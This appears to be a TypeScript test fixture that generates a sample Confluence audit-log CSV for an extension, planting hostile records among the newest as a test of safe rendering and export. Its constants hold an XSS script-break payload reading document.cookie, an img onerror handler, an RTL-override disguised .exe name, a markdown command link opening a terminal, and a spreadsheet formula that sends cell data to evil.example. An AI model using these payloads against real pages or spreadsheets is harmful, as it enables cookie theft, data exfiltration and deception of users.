// The sample audit log shipped for a first run without a Confluence site: two weeks of records from the
// simulator's seeded generator in our CSV export format (what "Open Audit Export…" reads), with a few hostile
// records planted among the newest, where a first look finds them. Deterministic: these constants always give
// the same bytes, and test/unit/sample/sampleFile.test.ts checks the committed file against them.
import type { AffectedObject, AuditRecord, ChangedValue } from '../../src/api/types';
import { CSV_HEADER, csvRow } from '../../simulator/csv';
import { SeededData } from '../../simulator/data/generate';
import { SAMPLE_FILE } from '../../src/sample/sampleFile';

export { SAMPLE_FILE };

const DAY_MS = 24 * 60 * 60 * 1000;

export const SAMPLE_SEED = 16;
export const SAMPLE_RECORDS = 3000;
export const SAMPLE_PERIOD_MS = 14 * DAY_MS;
/** The newest possible record. The extension moves the records forward on open (src/sample), so any fixed time will do. */
export const SAMPLE_ANCHOR = Date.UTC(2026, 11, 1, 16, 30, 0);

/** A page title that closes the webview's script element and opens its own. */
export const SCRIPT_PAGE_TITLE = 'Q3 plan</script><script>alert(document.cookie)</script>';
/** A file name that a right-to-left override (U+202E) shows as "invoiceexe.pdf". */
export const RTL_PAGE_TITLE = 'invoice\u202Efdp.exe';
/** A value a spreadsheet would run as a formula. */
export const FORMULA_VALUE = '=HYPERLINK("https://evil.example/?q="&A1,"Open report")';
/** A long value: every page of a space export listed in its description (about 13 KB). */
export const LONG_DESCRIPTION = `PDF export of ${600} pages: ${Array.from({ length: 600 }, (_, i) => `Finance handbook section ${i + 1}`).join('; ')}`;
/** A display name that is a markdown command link, and a group name that is an HTML image with a handler. */
export const COMMAND_LINK_NAME = '[Verify your account](command:workbench.action.terminal.new)';
export const IMG_GROUP_NAME = '<img src=x onerror=alert(1)>';

interface Planted {
  /** Position among the records, newest first. */
  index: number;
  category: string;
  summary: string;
  description?: string;
  affectedObject: AffectedObject;
  associatedObjects?: AffectedObject[];
  changedValues?: ChangedValue[];
}

function changed(name: string, oldValue: string, newValue: string): ChangedValue {
  return { name, oldValue, newValue, hiddenOldValue: '', hiddenNewValue: '' };
}

/** The planted records, all by one person (the story: a compromised account), at fixed places among the newest. */
export const PLANTED: readonly Planted[] = [
  {
    index: 2, category: 'Page', summary: 'Page restrictions updated',
    affectedObject: { name: SCRIPT_PAGE_TITLE, objectType: 'Page' }, associatedObjects: [{ name: 'Finance', objectType: 'Space' }],
    changedValues: [changed('Restriction', 'Anyone can view', 'Only specific people can view')],
  },
  {
    index: 5, category: 'Page', summary: 'Page deleted',
    affectedObject: { name: RTL_PAGE_TITLE, objectType: 'Page' }, associatedObjects: [{ name: 'Finance', objectType: 'Space' }],
  },
  {
    index: 9, category: 'Global config and administration', summary: 'Global settings changed',
    affectedObject: { name: 'Confluence', objectType: 'Site' }, changedValues: [changed('Site title', 'Acme Wiki', FORMULA_VALUE)],
  },
  {
    index: 14, category: 'Spaces', summary: 'Space exported', description: LONG_DESCRIPTION,
    affectedObject: { name: 'Finance', objectType: 'Space' },
  },
  {
    index: 20, category: 'Users and groups', summary: 'User added to group',
    affectedObject: { name: COMMAND_LINK_NAME, objectType: 'User' }, associatedObjects: [{ name: IMG_GROUP_NAME, objectType: 'Group' }],
  },
];

/** The sample's records, newest first. */
export function sampleRecords(): AuditRecord[] {
  const data = new SeededData({ records: SAMPLE_RECORDS, seed: SAMPLE_SEED, anchor: SAMPLE_ANCHOR, periodMs: SAMPLE_PERIOD_MS });
  const records = Array.from({ length: data.count }, (_, k) => data.record(k));
  // The first administrator account in the data plants them all; its own address is kept.
  const planter = records.find((r) => r.sysAdmin && r.author.accountId);
  if (!planter) throw new Error('the seeded data has no administrator account to plant the hostile records');
  for (const plant of PLANTED) {
    // A duplicate repeats the record before it exactly; planting into one would break that pairing.
    if (data.isDuplicate(plant.index)) throw new Error(`record ${plant.index} is a duplicate: plant elsewhere`);
    const base = records[plant.index];
    records[plant.index] = {
      ...base,
      author: { ...planter.author },
      remoteAddress: planter.remoteAddress,
      category: plant.category,
      summary: plant.summary,
      description: plant.description ?? '',
      affectedObject: plant.affectedObject,
      associatedObjects: plant.associatedObjects ?? [],
      changedValues: plant.changedValues ?? [],
      sysAdmin: plant.category === 'Global config and administration',
      superAdmin: false,
    };
  }
  return records;
}

/** The file's exact text: our CSV export format (RFC 4180, CRLF line ends, UTF-8). */
export function sampleCsv(records: readonly AuditRecord[] = sampleRecords()): string {
  return CSV_HEADER + records.map(csvRow).join('');
}
